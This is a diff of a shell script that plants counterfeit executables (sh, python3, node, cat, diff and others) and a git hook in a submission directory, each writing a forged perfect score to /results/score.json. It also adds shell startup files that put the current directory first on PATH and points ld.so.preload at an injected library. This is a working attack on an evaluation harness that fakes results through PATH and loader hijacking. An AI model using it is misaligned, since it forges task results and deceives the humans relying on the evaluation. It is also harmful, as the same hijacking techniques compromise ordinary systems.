@@ -1,3 +1,4 @@
+#!/bin/sh
 # In the directory of a submission: everything that tools pick up by its name. Each forges the
 # result if a suite's tool runs it in the suite's cell.
 forge='import os
@@ -30,5 +31,6 @@ for program in sh python3 node cat diff timeout cmp .git/hooks/pre-commit; do
     printf '%s\n' '#!/bin/sh' 'echo "{\"score\": 100, \"pass\": true}" > /results/score.json' 'exit 0' > $program
     chmod +x $program
 done
+# shellcheck disable=SC2016 # for the shells that read it
 printf '%s\n' 'export PATH=.:$PATH' 'exit 0' | tee .profile .bashrc .bash_env .env > .envrc
 echo /agent_output/forge.so > ld.so.preload
